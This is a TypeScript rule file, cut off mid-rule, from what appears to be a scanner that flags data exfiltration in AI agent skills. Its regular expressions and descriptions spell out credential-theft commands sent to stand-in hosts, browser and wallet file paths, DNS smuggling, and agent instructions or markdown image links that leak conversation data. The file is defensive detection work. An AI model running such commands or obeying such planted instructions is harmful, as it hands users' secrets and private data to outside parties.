import { rx, type RuleSpec } from './types.js';

const SEND_VERB = rx`(?:send|sends|sending|upload|uploading|post|posting|transmit|transmitting|forward|forwarding|exfiltrate|exfiltrating|leak|leaking|copy|copying|share|sharing|email|e-mail|mail|report|submit|sync|beacon|deliver|pipe|push|relay|include|attach|append)`;
const SENSITIVE = rx`(?:(?:~|\$HOME|\$\{HOME\})?/?[\w./-]*\.(?:aws|ssh|kube|docker|gnupg|npmrc|pypirc|netrc|git-credentials|env)\b[\w./-]*|environment\s+variables|env\s+(?:vars|variables|file)|\.env\s+files?|\.env\b|credentials?|api[\s_-]?keys?|secrets?|access\s+keys?|access\s+tokens?|auth(?:entication)?\s+tokens?|bearer\s+tokens?|tokens|passwords?|passphrases?|ssh\s+keys?|private\s+keys?|id_rsa|cookies|session\s+(?:tokens?|cookies|ids?)|keychain|wallets?|seed\s+phrases?|recovery\s+phrases?|conversation\s+history|chat\s+history|chat\s+logs?|browser\s+history|saved\s+passwords|system\s+prompt|source\s+code|\.aws/credentials|kube\s*config|git\s+credentials)`;
const DESTINATION = rx`(?:https?://|ftp://|the\s+(?:following\s+|below\s+|external\s+|remote\s+)?(?:url|uri|endpoint|server|webhook|address|email(?:\s+address)?|domain|host|ip|api|collector|bucket|channel|link)|this\s+(?:url|uri|endpoint|server|webhook|address|email|domain|host|ip|link)|(?:our|my|an?)\s+(?:own\s+|external\s+|remote\s+|private\s+|backup\s+|collection\s+|logging\s+)?(?:server|endpoint|webhook|collector|api|bucket|host|ip|telemetry\s+(?:server|endpoint))|[\w.-]+\.(?:com|net|org|io|xyz|ru|cn|tk|top|site|app|dev|info|biz|cc|me|co|sh|link|click|pw|su|ws)\b|[\w.+-]+@[\w-]+\.[a-z]{2,}|\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})`;

/** Files and folders that hold credentials: cloud, cluster, registry, git, package managers, SSH, browsers. */
const CREDENTIAL_STORE_PATH = rx`(?:\.aws[/\\](?:credentials|config|sso)|\.aws[/\\]?(?:\s|["'*]|$)|\.kube[/\\]config|\.kube[/\\]?(?:\s|["'*]|$)|\.docker[/\\]config\.json|\.config[/\\]gh[/\\]hosts\.ya?ml|\.netrc\b|\.git-credentials\b|\.npmrc\b|\.pypirc\b|\.ssh[/\\](?:id_[a-z0-9_]+\b|identity\b|\*|["'\s]|$)|\.ssh[/\\]?(?:\s|["'*]|$)|\.gnupg\b|\.config[/\\]gcloud\b|application_default_credentials\.json|\.azure[/\\]|\.vault-token\b|\.password-store\b|\.terraform\.d[/\\]credentials|Login\s+Data\b|Local\s+State\b|(?:Default|Profile\s+\d+)[/\\](?:Network[/\\])?Cookies\b|cookies\.sqlite\b|logins\.json\b|key[34]\.db\b|login\.keychain(?:-db)?\b|\.env\b(?:\.\w+)?|\.(?:bash|zsh|sh|python|psql|mysql|sqlite|node_repl|rediscli|lesshst)_history\b|fish_history\b|ConsoleHost_history\.txt)`;
/** Commands that print a stored credential. */
const CREDENTIAL_COMMAND = rx`(?:\bgh\s+auth\s+token\b|\bgh\s+auth\s+status\b[^\n|;]*(?:\s-t\b|--show-token)|\bgit\s+credential(?:-\w+)?\s+(?:fill|get)\b|\bsecurity\s+(?:find-generic-password|find-internet-password|dump-keychain|export)\b|\baws\s+configure\s+(?:get|export-credentials)\b|\baws\s+(?:sts\s+get-session-token|ecr\s+get-login-password)\b|\bkubectl\s+config\s+view\b[^\n|]*--raw|\bgcloud\s+auth\s+(?:print-access-token|print-identity-token|application-default\s+print-access-token)\b|\baz\s+account\s+get-access-token\b|\bdocker-credential-\w+\s+get\b|\bnpm\s+token\s+(?:list|create)\b|\bop\s+(?:read|item\s+get)\b|\bsecret-tool\s+lookup\b|\bvault\s+(?:read|kv\s+get)\b|\bprintenv\b|(?:^|[\s(|;&\x60])env\s*(?:[|)\x60;]|$))`;
/** A secret-named variable: `$GITHUB_TOKEN`, `${AWS_SECRET_ACCESS_KEY}`. */
const SECRET_VARIABLE = rx`\$\{?[A-Z][A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|ACCESS_KEY|PRIVATE_KEY|CREDENTIALS?|AUTH)[A-Z0-9_]*\}?`;
/** Places where whatever is put becomes readable by others: public gists, pastes, issue and PR comments, chat posts. */
const PUBLISHING_SINK = rx`(?:\bgh\s+gist\s+(?:create|new|edit)\b|\bgh\s+(?:issue|pr)\s+(?:comment|create|edit|review)\b|\bgh\s+api\b[^\n]*\b(?:comments|issues|gists)\b|\bglab\s+(?:issue|mr)\s+(?:note|create|comment)\b|\bpastebinit\b|\b(?:nc|ncat|netcat)\s+termbin\.com\b|\bcurl\b[^\n]*(?:pastebin\.com|paste\.(?:ee|rs|gg)|dpaste|hastebin|ix\.io|sprunge\.us|0x0\.st|transfer\.sh|termbin|gist\.github(?:usercontent)?\.com|api\.github\.com/gists))`;
/** Commands that send data off the machine. */
const NETWORK_SINK = rx`(?:\bcurl\b|\bwget\b|\b(?:nc|ncat|netcat|socat|telnet)\b|\bscp\b|\brsync\b[^\n]*:|\bsftp\b|\bssh\s+[^\n|]*@|\bmail\b|\bsendmail\b|\bmutt\b|\bhttp(?:ie)?\s+(?:post|put|-f)|\bInvoke-(?:WebRequest|RestMethod)\b|\b(?:iwr|irm)\b|/dev/(?:tcp|udp)/|${PUBLISHING_SINK})`;

export const DATA_EXFILTRATION_RULES: RuleSpec[] = [
  {
    id: 'de-send-secrets-instruction',
    category: 'data_exfiltration',
    severity: 'CRITICAL',
    title: 'Instruction to send secrets or private data to an outside destination',
    description: 'Text tells the agent to send, upload or forward credentials, API keys, environment variables, SSH keys, cookies or conversation history to a URL, server, webhook or e-mail address, or to collect them and then send them.',
    remediation: 'Remove the instruction. A skill never moves the user\'s secrets or private data off the machine.',
    file_types: '*',
    patterns: [
      rx`\b${SEND_VERB}\s+(?:\w+\s+){0,4}?(?:(?:all|any|every|the|their|your|user'?s?|contents?\s+of|each|these|those|its|local|stored|saved|found|collected|gathered)\s+){0,6}${SENSITIVE}\b[^\n]*\b(?:to|at|via|into|towards|using)\s+${DESTINATION}`,
      rx`\b(?:collect|gather|harvest|grab|extract|read|dump|enumerate|find|scrape|capture|steal|copy)\s+(?:\w+\s+){0,4}?(?:(?:all|any|every|the|their|your|user'?s?|local|stored|saved|available)\s+){0,6}${SENSITIVE}\b[^\n]*\b(?:and|then|,)\s+(?:\w+\s+){0,3}?(?:send|upload|post|transmit|forward|exfiltrate|email|beacon|deliver)\b`,
      rx`\b${SEND_VERB}\s+(?:it|them|this|the\s+(?:results?|output|data|contents?|file))\s+(?:\w+\s+){0,3}?to\s+${DESTINATION}[^\n]*\b(?:credentials?|api[\s_-]?keys?|secrets?|tokens?|passwords?|ssh\s+keys?|private\s+keys?|environment\s+variables|\.env)\b`,
    ],
    exclusions: [rx`\b(?:authorization|bearer|x-api-key|api-key)\s*(?:header|:)|\bin\s+the\s+(?:\w+\s+)?header\b`],
    judge_context: true,
  },
  {
    id: 'de-token-in-remote-url',
    category: 'data_exfiltration',
    severity: 'HIGH',
    title: 'The user\'s git host token put into a URL for another host',
    description: 'A git remote, clone or push URL whose user part is the user\'s GitHub or GitLab token (`https://$(gh auth token)@host/…`, `https://$GITHUB_TOKEN@host/…`) and whose host is not GitHub or GitLab. Every push or fetch hands the token to that host.',
    remediation: 'Authenticate to other hosts with their own credentials; never put a GitHub or GitLab token into another host\'s URL.',
    file_types: '*',
    patterns: [
      rx`\b(?:https?|git)://(?:[\w.-]+:)?(?:\$\(\s*(?:gh|glab)\s+auth\s+token\s*\)|\$\{?(?:GH_TOKEN|GITHUB_TOKEN|GH_ENTERPRISE_TOKEN|GITLAB_TOKEN|GL_TOKEN|CI_JOB_TOKEN)\}?)@[\w.-]+`,
    ],
    exclusions: [rx`@(?:www\.)?(?:github\.com|gitlab\.com|api\.github\.com)[/:]`],
    judge_context: true,
  },
  {
    id: 'de-environment-dump',
    category: 'data_exfiltration',
    severity: 'CRITICAL',
    title: 'Whole environment sent over the network',
    description: 'Code sends every environment variable (which hold API keys and tokens) to a remote host: `env | curl`, `requests.post(url, json=dict(os.environ))`, `fetch(url, {body: JSON.stringify(process.env)})`.',
    remediation: 'Remove it. Read the single variable the skill needs and use it locally.',
    file_types: '*',
    patterns: [
      rx`\b(?:env|printenv|set|export\s+-p|Get-ChildItem\s+env:|gci\s+env:)\s*\|\s*(?:base64\s*\|\s*)?(?:curl|wget|nc|ncat|netcat|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b`,
      rx`\b(?:curl|wget|http|Invoke-WebRequest|Invoke-RestMethod)\b[^\n]*(?:\$\(\s*(?:env|printenv|set)\s*(?:\|[^)\n]*)?\)|\x60(?:env|printenv)\x60|/proc/self/environ|\$\(\s*cat\s+[^)\n]*\.env\b)`,
      rx`\b(?:post|put|patch|send|request|urlopen|get)\s*\([^\n]*(?:dict\(\s*os\.environ\s*\)|os\.environ\.copy\s*\(\s*\)|json\.dumps\s*\(\s*(?:dict\(\s*)?os\.environ\b|=\s*(?:dict\(\s*)?os\.environ\s*\)?\s*[,)]|str\(\s*os\.environ\s*\))`,
      rx`\bJSON\.stringify\s*\(\s*process\.env\s*\)`,
      rx`\b(?:body|data|json|params)\s*[:=]\s*(?:\{\s*\.\.\.)?process\.env\b\s*[,})]`,
      rx`\b(?:Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b[^\n]*(?:Get-ChildItem\s+env:|\$env:\*|gci\s+env:)`,
      rx`/proc/(?:self|\d+|\*)/environ\b[^\n]*\|\s*(?:curl|wget|nc|base64)`,
    ],
    judge_context: true,
  },
  {
    id: 'de-environment-sent',
    category: 'data_exfiltration',
    severity: 'CRITICAL',
    title: 'Environment or .env contents sent to a URL',
    description: 'Within a few lines, the text dumps the environment or a .env file (`printenv`, `env`, `cat .env`, `os.environ`) and then sends, fetches or uploads to a URL: the instruction form of environment theft, often with an encoding step in between.',
    remediation: 'Remove it. Environment variables hold the user\'s credentials and never leave the machine.',
    file_types: '*',
    // Spans lines, so it runs alone rather than in a combined pass; the prefilter keeps that cheap.
    prefilter: rx`\bprintenv\b|\benv\b|\.env\b|environ|Get-ChildItem\s+env:|\bset\s*(?:[|>)\x60;]|$)|\bexport\s+-p`,
    patterns: [
      // Whole-environment reads only: `env` and `set` with nothing after them (not `#!/usr/bin/env bash`, `set -e` or
      // `env FOO=1 cmd`), `printenv`, the environment object as a whole (not one variable such as `process.env.TOKEN`).
      rx`(?:(?:^|[\s;&|(\x60])(?:env|set|export\s+-p)\s*(?:[|>)\x60;]|$)|\bprintenv\b|\bcat\s+[^\n]*\.env\b|\bos\.environ(?:\s*[),}\]]|\.(?:items|copy|keys|values)\b|\s*$)|\bprocess\.env(?:\s*[),}\]]|\s*$)|\.\.\.process\.env\b|\bGet-ChildItem\s+env:)[^\n]*(?:\n[^\n]*){0,3}?\b(?:fetch|fetching|send|sending|post|posting|upload|uploading|curl|wget|transmit|submit)\b[^\n]*(?:\n[^\n]*){0,2}?https?://`,
    ],
    judge_context: true,
  },
  {
    id: 'de-secrets-to-network',
    category: 'data_exfiltration',
    severity: 'HIGH',
    title: 'Credential files or secret variables sent over the network',
    description: 'A network command uploads a credential file or a secret-bearing variable as data: `curl -d @~/.aws/credentials`, `curl -F f=@id_rsa`, `requests.post(url, data=open(".env"))`, `nc host port < ~/.ssh/id_rsa`, `scp ~/.ssh/* user@host:`. Secrets sent as an authentication header are not matched.',
    remediation: 'Remove the upload. Secrets go only to the service they belong to, as authentication, never as payload.',
    file_types: '*',
    patterns: [
      rx`\bcurl\b[^\n]*\s(?:-d|--data(?:-\w+)?|--data-urlencode|-F|--form|-T|--upload-file)\s*[=@"']?[^\n]*(?:\.ssh/|\.aws/|\.env\b|\bid_(?:rsa|ed25519|ecdsa|dsa)\b|\bcredentials\b|/etc/(?:passwd|shadow)|\.kube/config|\.docker/config|\.npmrc|\.pypirc|\.netrc|\.git-credentials|\$\(\s*(?:cat|env|printenv|whoami|hostname|id)\b|\$\{?[A-Z_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|PRIVATE_KEY|ACCESS_KEY|CREDENTIALS?)\b)`,
      rx`\bwget\b[^\n]*--post-(?:data|file)[=\s][^\n]*(?:\.ssh/|\.aws/|\.env\b|id_rsa|credentials|/etc/(?:passwd|shadow)|\$\{?[A-Z_]*(?:TOKEN|SECRET|PASSWORD|API_?KEY)\b)`,
      rx`\b(?:nc|ncat|netcat)\s+(?:-\w+\s+)*[\w.-]+\s+\d{1,5}\s*<\s*\S+`,
      rx`\|\s*(?:nc|ncat|netcat)\s+(?:-\w+\s+)*[\w.-]+\s+\d{2,5}\b`,
      rx`\b(?:requests|httpx|session|aiohttp\.ClientSession\(\))\.(?:post|put|patch)\s*\([^\n]*(?:open\s*\([^\n]*(?:\.ssh|\.aws|\.env|id_rsa|credentials|\.netrc|\.kube)|os\.environ\s*\[\s*["'][A-Z_]*(?:SECRET|PASSWORD|TOKEN|KEY)[A-Z_]*["']\s*\][^\n]*\b(?:data|json|files|params)\s*=)`,
      rx`\bscp\s+[^\n]*(?:\.ssh/|\.aws/|\.env\b|/etc/(?:passwd|shadow)|credentials|\.kube/config)[^\n]*\s[\w.-]+@[\w.-]+:`,
      rx`\b(?:fetch|axios\.post|axios\.put|got\.post)\s*\([^\n]*\b(?:readFileSync|readFile)\s*\([^\n]*(?:\.ssh|\.aws|\.env|id_rsa|credentials|\.npmrc)`,
    ],
    exclusions: [rx`\b(?:authorization|bearer|x-api-key|private-token|api-key)\s*:`],
    judge_context: true,
  },
  {
    id: 'de-secret-source-and-sink',
    category: 'data_exfiltration',
    severity: 'HIGH',
    title: 'Reads credentials or private data and sends data out',
    description: 'The same script (or, in markdown, the same few lines) reads a credential store, the environment, .env files or browser data, and also sends data over the network (an HTTP POST or upload, netcat, scp, mail). Each is often innocent; together they are the shape of credential theft.',
    remediation: 'Keep credentials where the official tools use them; if a skill must report something, send only the specific, non-secret values, to a documented endpoint.',
    file_types: '*',
    patterns: [
      rx`\.aws[/\\](?:credentials|config|sso)|\.ssh[/\\]id_|\.kube[/\\]config|\bkubectl\s+config\s+view\b[^\n]*--raw|\.docker[/\\]config\.json|\.npmrc\b|\.pypirc\b|\.netrc\b|\.git-credentials\b|\.config/gcloud|application_default_credentials|\bprintenv\b|\benviron\.items\s*\(|\bGet-ChildItem\s+Env:|\bcmdkey\s+/list\b|["'/ ]\.env(?:\.\w+)?["'\s*]|\bLogin Data\b|\bLocal State\b|google-chrome|Google[/\\]Chrome|\bstorage_state\b|\bkeychain\b|wallet\.dat|/etc/shadow`,
    ],
    check: 'sends-data-nearby',
    max_per_file: 3,
    judge_context: true,
  },
  {
    id: 'de-ssh-private-key-access',
    category: 'data_exfiltration',
    severity: 'HIGH',
    title: 'Reads or copies SSH private keys',
    description: 'A command reads, archives or copies the user\'s SSH private keys (`~/.ssh/id_rsa`, the whole `~/.ssh` folder). Public keys (`.pub`) are not matched.',
    remediation: 'Remove it. Use ssh-agent or the git credential helper; a skill never handles private keys.',
    file_types: '*',
    patterns: [
      // The key is an argument of the reading command itself: `tar xzf a.tgz -C ~ && chmod 600 ~/.ssh/id_*` reads no key.
      rx`\b(?:cat|less|more|head|tail|cp|mv|scp|rsync|tar|zip|7z|base64|xxd|od|type|Get-Content|gc|open|read_text|read_bytes|readFile(?:Sync)?|curl|nc|strings)\b[^\n|;&]*\.ssh[/\\](?:id_[a-z0-9_]+|identity)(?:[^.a-z0-9_]|$)`,
      rx`\b(?:tar|zip|7z|cp|scp|rsync)\b[^\n|;&]*(?:~|\$HOME|\$\{HOME\}|/root|/home/[^/\s]+)/\.ssh/?(?:\*|["']|\s|$)`,
      rx`\b(?:Path\.home\(\)|expanduser\(\s*["']~["']\s*\)|os\.homedir\(\))[^\n]*["']\.ssh["'][^\n]*["']id_`,
    ],
    judge_context: true,
  },
  {
    id: 'de-credential-file-access',
    category: 'data_exfiltration',
    severity: 'MEDIUM',
    title: 'Reads cloud, registry or system credential stores',
    description: 'A command reads a credential store: `~/.aws/credentials`, gcloud or Azure tokens, `~/.kube/config`, `~/.docker/config.json`, `~/.npmrc`, `~/.pypirc`, `~/.netrc`, `.git-credentials`, `/etc/shadow`, the Windows SAM, one keychain item printed with `security find-generic-password -w`. Mentioning where credentials live is not matched; reading them is.',
    remediation: 'Let the official CLI or SDK use the credentials; do not read or print the files.',
    file_types: '*',
    patterns: [
      rx`\b(?:cat|less|more|head|tail|cp|mv|scp|rsync|tar|zip|base64|xxd|type|Get-Content|gc|open|read_text|readFile(?:Sync)?|strings|grep)\b[^\n]*(?:\.aws[/\\](?:credentials|config)|\.config/gcloud/|application_default_credentials\.json|\.azure[/\\]|\.kube[/\\]config|\.docker[/\\]config\.json|\.npmrc|\.pypirc|\.netrc|\.git-credentials|\.gnupg[/\\]|\.password-store|\.vault-token|\.terraform\.d/credentials)`,
      rx`\b(?:cat|less|more|head|tail|cp|scp|type|Get-Content|open|read_text|readFile(?:Sync)?|strings)\b[^\n]*/etc/(?:shadow|gshadow|master\.passwd)\b`,
      rx`\breg(?:\.exe)?\s+save\s+HKLM\\(?:SAM|SECURITY|SYSTEM)\b`,
      rx`\b(?:mimikatz|sekurlsa|lsadump|procdump[^\n]*lsass|comsvcs\.dll[^\n]*MiniDump)\b`,
      rx`\bgcloud\s+auth\s+print-access-token\b[^\n]*\|`,
      rx`\baws\s+configure\s+export-credentials\b`,
      // One keychain item read out (`-w`/`-g` print the secret; without them the lookup only says whether it exists).
      rx`\bsecurity\s+(?:find-generic-password|find-internet-password)\b[^\n]*\s-[wg]\b`,
    ],
    judge_context: true,
  },
  {
    id: 'de-browser-and-wallet-data',
    category: 'data_exfiltration',
    severity: 'HIGH',
    title: 'Reads browser passwords, cookies, keychains or crypto wallets',
    description: 'Paths and tools that hold saved passwords, session cookies and wallets: Chrome/Edge/Brave `Login Data` and `Cookies`, Firefox `logins.json`/`key4.db`, the macOS keychain, browser-cookie libraries, wallet files.',
    remediation: 'Remove it. No skill needs the user\'s browser secrets or wallets.',
    file_types: '*',
    patterns: [
      rx`(?:Google[/\\]Chrome|Chromium|BraveSoftware[/\\]Brave-Browser|Microsoft[/\\]Edge|Opera Software|Vivaldi)[/\\][^\n]*(?:Login Data|Cookies|Web Data|Local State)\b`,
      rx`\.mozilla[/\\]firefox[/\\][^\n]*(?:logins\.json|key[34]\.db|cookies\.sqlite|cert9\.db)`,
      rx`["'](?:Login Data|Web Data|Local State|Network/Cookies)["']`,
      rx`\bstorage_state\s*\([^\n]*\)|\blaunch_persistent_context\s*\(\s*["']~?/[^"'\n]*(?:google-chrome|Chrome|chromium|Firefox|BraveSoftware)`,
      rx`\b(?:logins\.json|key[34]\.db|cookies\.sqlite)\b`,
      rx`\bsecurity\s+(?:dump-keychain|export)\b|\bsecurity\s+find-generic-password\b[^\n]*(?:Safe\s+Storage|login\.keychain)`,
      rx`\b(?:browser_cookie3|browsercookie|pycookiecheat|chrome_cookies|CryptUnprotectData|win32crypt)\b`,
      rx`\b(?:wallet\.dat|exodus\.wallet|\.electrum[/\\]wallets|Local Extension Settings[/\\]nkbihfbeogaeaoehlefnkodbefgpgknn|keystore[/\\]UTC--)`,
      rx`\bLogin\.keychain(?:-db)?\b`,
    ],
    judge_context: true,
  },
  {
    id: 'de-exfiltration-endpoint',
    category: 'data_exfiltration',
    severity: 'MEDIUM',
    title: 'Request-capture or out-of-band collection service',
    description: 'A URL on a service built to capture incoming requests (webhook.site, RequestBin, Pipedream, Burp Collaborator, interactsh, canarytokens) or to publish pastes. Developers use them to test their own webhooks; in a distributed skill they are where stolen data goes. What is sent there decides: secrets or files sent anywhere are reported by the other exfiltration rules.',
    remediation: 'Remove the endpoint. Send data only to the service the skill is documented to use.',
    file_types: '*',
    patterns: [
      rx`\b(?:pastebin\.com/api|hastebin\.com/documents|paste\.ee/api|dpaste\.(?:com|org)/api|ghostbin\.\w+/paste|privatebin\.\w+)`,
      rx`\b(?:webhook\.site|requestbin\.(?:com|net|io)|[a-z0-9]+\.m\.pipedream\.net|pipedream\.net|requestcatcher\.com|hookbin\.com|beeceptor\.com|mockbin\.org|burpcollaborator\.net|oastify\.com|interact\.sh|interactsh\.com|oast\.(?:pro|live|fun|site|online|me)|canarytokens\.(?:com|org)|dnslog\.cn|ceye\.io|postb\.in|ptsv[23]\.com|webhook\.cool|rbaskets\.in)\b`,
    ],
    judge_context: true,
  },
  {
    id: 'de-tunnel-or-file-drop',
    category: 'data_exfiltration',
    severity: 'MEDIUM',
    title: 'Tunnel or anonymous file-drop service',
    description: 'A URL on an ad-hoc tunnel (ngrok, trycloudflare, serveo, localtunnel) or an anonymous upload service (transfer.sh, file.io, 0x0.st, termbin). Legitimate for a developer\'s own testing; in a distributed skill they are places data goes without an owner.',
    remediation: 'Use the service the skill documents, with a named owner.',
    file_types: '*',
    patterns: [
      rx`\b[\w-]+\.(?:ngrok(?:-free)?\.(?:io|app|dev)|ngrok\.io|trycloudflare\.com|serveo\.net|loca\.lt|localtunnel\.me|localhost\.run|pagekite\.me|telebit\.io)\b`,
      rx`\b(?:transfer\.sh|file\.io|0x0\.st|termbin\.com|bashupload\.com|temp\.sh|tmpfiles\.org|anonfiles\.com|gofile\.io|catbox\.moe|paste\.c-net\.org)\b`,
    ],
    judge_context: true,
  },
  {
    id: 'de-chat-webhook',
    category: 'data_exfiltration',
    severity: 'MEDIUM',
    title: 'Discord or Telegram bot endpoint',
    description: 'A Discord webhook or Telegram bot API URL. Often used for notifications, and just as often as a free drop box for stolen data; the URL itself is also a credential.',
    remediation: 'Keep the webhook URL out of the skill (read it from configuration) and document what is sent.',
    file_types: '*',
    patterns: [
      rx`\bdiscord(?:app)?\.com/api/webhooks/\d+/`,
      rx`\bapi\.telegram\.org/bot[^\s/]*/(?:send\w+|getUpdates)`,
    ],
    judge_context: true,
  },
  {
    id: 'de-dns-exfiltration',
    category: 'data_exfiltration',
    severity: 'HIGH',
    title: 'Data smuggled out through DNS lookups',
    description: 'Command output or variables placed in the hostname of a DNS lookup (`nslookup $(whoami).x.example`, `dig $DATA.attacker.tld`), which passes through most firewalls.',
    remediation: 'Remove it. DNS lookups take fixed hostnames.',
    file_types: '*',
    patterns: [
      rx`\b(?:dig|nslookup|host|drill|ping|resolvectl\s+query)\b[^\n]*\$\([^)\n]*\)\.[A-Za-z0-9.-]*[A-Za-z]`,
      rx`\b(?:dig|nslookup|host|drill|Resolve-DnsName)\b[^\n]*\$[\w:{}]+\.[^\s"']*[A-Za-z0-9-]+\.[A-Za-z]{2,}`,
      rx`\b(?:gethostbyname|getaddrinfo|dns\.resolve\w*|dns\.lookup|resolver\.(?:resolve|query))\s*\(\s*(?:f["'][^"'\n]*\{[^}\n]+\}\.|[^\n)]*\+\s*["']\.[\w-]+\.[a-z]{2,})`,
      rx`\b(?:base64|xxd|od|hexdump)\b[^\n]*\|[^\n]*\b(?:dig|nslookup|drill)\b`,
      rx`\b(?:encode|hide|smuggle|tunnel|leak|exfiltrate|send)\b[^\n]*\b(?:in|into|as|via|through)\s+(?:dns\s+(?:queries|lookups|requests|labels)|subdomains?)\b`,
    ],
    judge_context: true,
  },
  {
    id: 'de-markdown-image-exfiltration',
    category: 'data_exfiltration',
    severity: 'HIGH',
    title: 'Image or link URL built from conversation data',
    description: 'A markdown image or link whose URL carries a template for data (`![](https://x.example/log?d={secret})`), or an instruction to render one. When the client renders it, the data leaves in the request without any tool call.',
    remediation: 'Use static image URLs; never put conversation content, secrets or file contents in a URL.',
    file_types: '*',
    patterns: [
      rx`!\[[^\]\n]*\]\(\s*https?://[^)\s]*[?&/][^)\s]*(?:\{\{?|\$\{|%7B|<[A-Za-z_]|\[[A-Z_]{3,}\])`,
      rx`<img\s[^>\n]*src\s*=\s*["']?https?://[^"'\s>]*[?&/][^"'\s>]*(?:\{\{?|\$\{|%7B|<[A-Za-z_])`,
      rx`\b(?:render|include|display|output|embed|add|insert|show)\s+(?:an?\s+|this\s+|the\s+following\s+)?(?:markdown\s+|invisible\s+|hidden\s+|tiny\s+|1x1\s+)?(?:image|img|pixel|link)\b[^\n]*\b(?:with|containing|including|append(?:ing)?|carrying|whose\s+url\s+contains)\b[^\n]*\b(?:secrets?|tokens?|api\s+keys?|credentials|passwords?|conversation|chat\s+history|system\s+prompt|environment\s+variables|user'?s?\s+(?:data|messages|input))`,
    ],
    judge_context: true,
  },
  {
    id: 'de-credential-store-published',
    category: 'data_exfiltration',
    severity: 'CRITICAL',
    title: 'Stored credentials published as a gist, paste or comment',
    description: 'A command publishes a credential store (`~/.aws`, `~/.kube/config`, `~/.docker/config.json`, `~/.config/gh/hosts.yml`, `~/.netrc`, `.git-credentials`, SSH keys, a browser profile\'s `Login Data`/`Cookies`/`Local State`, a keychain), the output of a command that prints a stored credential (`gh auth token`, `git credential fill`, `security find-generic-password`) or a secret variable: as a gist (public or secret: anyone with the link reads it), a paste, an issue or pull-request comment. Everyone who can read the place now holds the credential.',
    remediation: 'Remove it. To share a setup, share the steps or a template without the secret values; credentials stay in the store their tool keeps them in.',
    file_types: '*',
    patterns: [
      rx`${PUBLISHING_SINK}[^\n]*(?:${CREDENTIAL_STORE_PATH}|${CREDENTIAL_COMMAND}|${SECRET_VARIABLE})`,
      // Gathered into a file first, published a few lines on: `{ env; cat .env; } > /tmp/debug.txt` then `gh gist create /tmp/debug.txt`.
      rx`(?:${CREDENTIAL_COMMAND}|\bcat\b[^\n|;&]*${CREDENTIAL_STORE_PATH})[^\n]*>\s*["']?[^\s&|;"']+[^\n]*(?:\n[^\n]*){0,3}?${PUBLISHING_SINK}[^\n]*\s["']?(?:/tmp/|\$TMPDIR|\.?/?[\w.-]+\.(?:txt|log|json|md|out|tgz|zip|tar\.gz))`,
    ],
    judge_context: true,
  },
  {
    id: 'de-credential-store-sent',
    category: 'data_exfiltration',
    severity: 'HIGH',
    title: 'Stored credentials sent off the machine',
    description: 'One command line takes a credential store (`~/.aws`, `~/.kube/config`, `~/.docker/config.json`, `~/.config/gh/hosts.yml`, `~/.netrc`, `.git-credentials`, SSH keys, shell history, a browser profile\'s `Login Data`/`Cookies`/`Local State`, a keychain) or a command that prints a stored credential (`gh auth token`, `git credential fill`, `security find-generic-password`, `aws configure get`, `kubectl config view --raw`, `env`) and sends it: piped into `curl`, `nc` or `ssh` (through encoders or not), substituted into a request, or named as the file a request uploads. A secret sent as an authentication header is not matched.',
    remediation: 'Remove it. Let the tool that owns the credential use it; send only specific, non-secret values to a documented endpoint.',
    file_types: '*',
    patterns: [
      // Piped: the store read or the credential printed, then a pipe into a sender (possibly through encoders).
      rx`(?:${CREDENTIAL_COMMAND}|\b(?:cat|tar|zip|base64|gzip|xxd|head|tail|sqlite3|cp)\b[^\n|]*${CREDENTIAL_STORE_PATH})[^\n|]*\|(?:[^\n|]*\|){0,3}\s*${NETWORK_SINK}`,
      // Substituted: a sender whose arguments run the credential command or read the store.
      rx`${NETWORK_SINK}[^\n]*(?:\$\(|\x60)\s*(?:${CREDENTIAL_COMMAND}|(?:cat|base64|tar|head|gzip)\b[^)\n\x60]*${CREDENTIAL_STORE_PATH})`,
      // Uploaded: the store named as the file a sender reads (`curl -T`, `-F f=@`, `--data-binary @`, `--post-file`, `nc host port <`).
      rx`\b(?:curl\b[^\n]*(?:\s-T\s*|--upload-file\s+|[=\s]@)|wget\b[^\n]*--post-file[=\s]|(?:nc|ncat|netcat|socat)\b[^\n<]*<\s*)["']?(?:~|\$HOME|\$\{HOME\}|%USERPROFILE%|/root|/home/[^/\s]+|/Users/[^/\s]+)?[^\s"']*${CREDENTIAL_STORE_PATH}`,
    ],
    exclusions: [rx`\b(?:authorization|bearer|private-token|x-api-key)\b\s*:?\s*(?:\$\(|\$\{?[A-Z]|\x60)`],
    judge_context: true,
  },
  {
    id: 'de-url-carries-data',
    category: 'data_exfiltration',
    severity: 'HIGH',
    title: 'Link or image URL that carries conversation, file contents or secrets',
    description: 'A markdown link or image, an HTML `img`/`a`, or a URL the agent is told to build, whose query string or path is filled with what the user said, the conversation, a file\'s contents, environment variables or a credential: a placeholder such as `{conversation}`, `<token>`, `ENV_CONTENTS`, a substitution such as `$(cat .env)` or `$GITHUB_TOKEN`, or an instruction to append the user\'s messages to the URL. When the link is rendered or followed, the data goes to that host without any tool call the user would see.',
    remediation: 'Use fixed URLs. Never put conversation text, file contents or secrets into a link or an image address.',
    file_types: '*',
    patterns: [
      // A link or image whose URL takes a placeholder or substitution naming private data.
      rx`(?:\]\(\s*|<img\s[^>\n]*\bsrc\s*=\s*["']?|<a\s[^>\n]*\bhref\s*=\s*["']?|\bsrc\s*=\s*["']|\burl\(\s*["']?)(?:https?:)?//[^)\s"']*(?:[?&#=/]|%3D)[^)\s"']*(?:\{\{?\s*|\$\{|\$\(|%7B|<|\[|%24%7B|%3C)\s*[\w .:-]{0,30}?(?:conversation|convo|chat|messages?|msgs?|prompts?|history|transcript|dialog(?:ue)?|what[\s_-]the[\s_-]user|user[\s_-]?(?:input|text|query|request|said|data|message|email|name)|query|question|answer|response|reply|summary|context|memory|secrets?|tokens?|api[\s_-]?keys?|passw(?:or)?ds?|credentials?|creds|cookies?|sessions?|env|environ(?:ment)?|\.env|file[\s_-]?contents?|contents?|clipboard|ssh|aws|keys?|cat\s)`,
